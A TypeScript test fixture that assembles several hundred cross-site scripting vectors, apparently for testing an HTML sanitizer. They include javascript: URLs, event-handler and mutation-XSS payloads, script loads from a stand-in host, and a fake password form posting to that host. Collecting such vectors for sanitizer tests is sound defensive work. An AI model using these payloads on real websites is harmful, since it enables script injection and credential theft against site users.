// Markup from known attacks: it runs scripts, loads from other sites or imitates the page. Collected
// from OWASP's XSS filter evasion cheat sheet and DOMPurify's tests.

const RUN = 'alert(1)';

/** Spellings of URLs that run scripts or hide their target. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `  javascript:${RUN}`,
  `java&#x09;script:${RUN}`,
  `java&NewLine;script&colon;${RUN}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}`,
  `&#0000106avascript:${RUN}`,
  `&#14; javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  `data:image/svg+xml,<svg onload=${RUN}>`,
  'vbscript:msgbox(1)',
  '//foreign.example/x',
  '/\\foreign.example/x',
];

/** Markup that contains a URL. */
const CARRIERS: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_blank>x</a>`,
  (address) => `<map><area href="${address}"></map>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<svg><use href="${address}"/></svg>`,
  (address) => `<svg><image href="${address}"/></svg>`,
  (address) => `<svg><animate attributeName=href values="${address}"/></svg>`,
  (address) => `<math href="${address}"><mi>x</mi></math>`,
  (address) => `<img src="${address}">`,
  (address) => `<img srcset="${address} 1x">`,
  (address) => `<picture><source srcset="${address}"><img src=x></picture>`,
  (address) => `<input type=image src="${address}">`,
  (address) => `<video poster="${address}" src="${address}"></video>`,
  (address) => `<audio><source src="${address}"></audio>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<embed src="${address}">`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<form action="${address}"><input type=submit></form>`,
  (address) => `<button formaction="${address}">x</button>`,
  (address) => `<base href="${address}">`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<table background="${address}"><td background="${address}">x</table>`,
  (address) => `<div style="background:url(${address})">x</div>`,
  (address) => `<blockquote cite="${address}">x</blockquote>`,
];

const ELEMENTS =
  `a article body button center details div dialog embed form frameset h1 iframe image img
  input isindex keygen li link marquee math object p section select source style svg table textarea
  track video x-own`.split(/\s+/);
const HANDLERS =
  `onerror onload onclick ontoggle onfocus onanimationstart onpointerenter onbeforeinput
  onbegin onscrollsnapchange oncontentvisibilityautostatechange`.split(/\s+/);

/** Markup that parsers interpret differently (mutation XSS), and other classic attacks. */
export const CLASSICS = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=https://foreign.example/x.js></SCRIPT>
<<SCRIPT>alert(1);//\<</SCRIPT>
<SCRIPT/XSS SRC="https://foreign.example/x.js"></SCRIPT>
<SCRIPT SRC=//foreign.example/.j>
<SCRIPT a=">" SRC="https://foreign.example/x.js"></SCRIPT>
<SCRIPT =">" SRC="https://foreign.example/x.js"></SCRIPT>
<SCRIPT a=${'`'}>${'`'} SRC="https://foreign.example/x.js"></SCRIPT>
<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://foreign.example/x.js"></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)//
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
\";alert(1);//
'';!--"<XSS>=&{()}
<IMG """><SCRIPT>alert(1)</SCRIPT>"\>
<IMG SRC=# onmouseover="alert(1)">
<IMG SRC= onmouseover="alert(1)">
<img src=x onerror="&#0000106&#0000097&#0000118&#0000097alert(1)">
<IMG SRC="jav	ascript:alert(1);">
<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>
<IMG DYNSRC="javascript:alert(1)">
<IMG LOWSRC="javascript:alert(1)">
<BGSOUND SRC="javascript:alert(1);">
<BR SIZE="&{alert(1)}">
<LAYER SRC="https://foreign.example/x.html"></LAYER>
<STYLE>@import'https://foreign.example/x.css';</STYLE>
<STYLE>li {list-style-image: url("https://foreign.example/x.png");}</STYLE><UL><LI>x</br>
<STYLE>body{display:none}</STYLE>
<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a alert(1)'\0029">
<DIV STYLE="width: expression(alert(1));">
<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">
<XSS STYLE="behavior: url(xss.htc);">
<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">
<META HTTP-EQUIV="Link" Content="<https://foreign.example/x.css>; REL=stylesheet">
<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-
<IFRAME SRCDOC="<script>alert(1)</script>"></IFRAME>
<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>
<OBJECT TYPE="text/x-scriptlet" DATA="https://foreign.example/x.html"></OBJECT>
<OBJECT classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></OBJECT>
<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->
<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:alert(1);">]]></C></X></xml><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>
<?xml version="1.0"?><html:html xmlns:html='http://www.w3.org/1999/xhtml'><html:script>alert(1);</html:script></html:html>
<!--#exec cmd="/bin/echo '<SCR'"-->
<A HREF="https://foreign.example/" onclick=alert(1)>x</A>
<a href="https://bank.example@foreign.example/">x</a>
<svg><script>alert(1)</script></svg>
<svg><script href="https://foreign.example/x.js"/></svg>
<svg><script xlink:href=data:,alert(1) />
<svg><style>*{background:url(//foreign.example)}</style></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<svg><set attributeName=onmouseover to=alert(1) />
<svg><discard onbegin=alert(1)>
<svg/onload=alert(1)//
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><g title="</style><img src=x onerror=alert(1)>"></svg>
<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><annotation-xml encoding="text/html"><iframe srcdoc="<script>alert(1)</script>"></annotation-xml></math>
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>"></style></h1>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<select><noscript></select><img src=x onerror=alert(1)></noscript>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">
<table><tr><td><svg><desc><table><style></table><img src=x onerror=alert(1)></style></desc></svg></td></tr></table>
<div><a><b><center><a><i></a><img src=x onerror=alert(1)></center></b>
<center><img src=x onerror=alert(1)><script>alert(1)</script></center>
<section><article><h1><h5><address><iframe srcdoc=x></address></h5></h1></article></section>
<form id=x></form><input form=x name=attributes><button form=x formaction=javascript:alert(1)>x
<form><input name=attributes><input name=nodeName><input name=childNodes><img src=x onerror=alert(1)></form>
<form onclick=alert(1)><input name=removeAttribute><input name=parentNode>x</form>
<img name=body><img name=cookie><a id=location href="javascript:alert(1)">x</a><p id=root>x</p>
<a id=a1><a id=a1 name=x href="cid:&quot;onerror=alert(1)//">x</a>
<p class="MuiDialog-root" id="root" role="dialog" style="position:fixed;inset:0;z-index:9999">x</p>
<dialog open><form method=post action=https://foreign.example><input type=password></form></dialog>
<details open ontoggle=alert(1)><summary>x</summary></details>
<input autofocus onfocus=alert(1)>
<video><source onerror="alert(1)"></video>
<audio src=x onerror=alert(1) autoplay></audio>
<keygen autofocus onfocus=alert(1)>
<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>
<marquee onstart=alert(1)>x</marquee>
<isindex type=image src=1 onerror=alert(1)>
<body onload=alert(1) background="https://foreign.example/x.png">
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(1)">x</p>
<p style="content:'&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;'">x</p>
<link rel=import href="https://foreign.example/x.html">
<link rel=dns-prefetch href="https://foreign.example/"><link rel=preconnect href="https://foreign.example/">
<portal src="https://foreign.example/"></portal>
<fencedframe src="https://foreign.example/"></fencedframe>
<div data-x="{{constructor.constructor('alert(1)')()}}">{{constructor.constructor('alert(1)')()}} ${'$'}{alert(1)} #{alert(1)} <%= alert(1) %></div>
<a href="#" is="x-y" onclick=alert(1)>x</a>
<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>
<!-- > <img src=x onerror=alert(1)> -->
<!--><img src=x onerror=alert(1)>-->
<!--!><img src=x onerror=alert(1)>--!>
<![CDATA[<img src=x onerror=alert(1)>]]>
<?php echo 1 ?><img src=x onerror=alert(1)>
</p><p onclick=alert(1)>x</br onclick=alert(1)>
<x onclick=alert(1)><y onclick=alert(1)><z onclick=alert(1)>x
<img/src="x"/onerror=alert(1)>
<img	src=x	onerror	=	alert(1)>
<img src=x:x onerror=alert(1)//
<img src='x'onerror=alert(1)>
"><img src=x onerror=alert(1)>
'><svg onload=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
`
  .trim()
  .split('\n');

/** All hostile markup, one vector per item. */
export const HOSTILE_MARKUP: readonly string[] = [
  ...CLASSICS,
  ...CARRIERS.flatMap((carry) => ADDRESSES.map(carry)),
  ...ELEMENTS.flatMap((element) =>
    HANDLERS.map((handler) => `<${element} src=x ${handler}=${RUN}>x</${element}>`),
  ),
  '<SCR\0IPT>alert(1)</SCR\0IPT>',
  '<img src=x onerror\u000Calert(1)>',
  '<\u{FF49}mg src=x onerror=alert(1)>',
  // `<plaintext>` turns everything after it into text.
  '<plaintext><img src=x onerror=alert(1)>',
];

/** Closes every element that a vector may leave open, so that the next vector is parsed separately. */
const ENDS =
  '--></style></script></title></textarea></noscript></noembed></noframes></xmp></iframe></template></select></svg></math></table></form></a></p></div>';

/** The most vectors that fit into one text; `isTangledHtml` shows larger ones as plain text. */
export const ARTICLE_VECTORS = 120;

/** Returns a rich text of vectors, starting at index `first`, each preceded by its index: `[7]`. */
export function hostileArticle(first: number): string {
  const indices = Array.from(
    { length: ARTICLE_VECTORS },
    (_none, index) => (first + index) % HOSTILE_MARKUP.length,
  );
  return indices.map((index) => `<p>[${index}]</p>${HOSTILE_MARKUP[index]}${ENDS}`).join('');
}
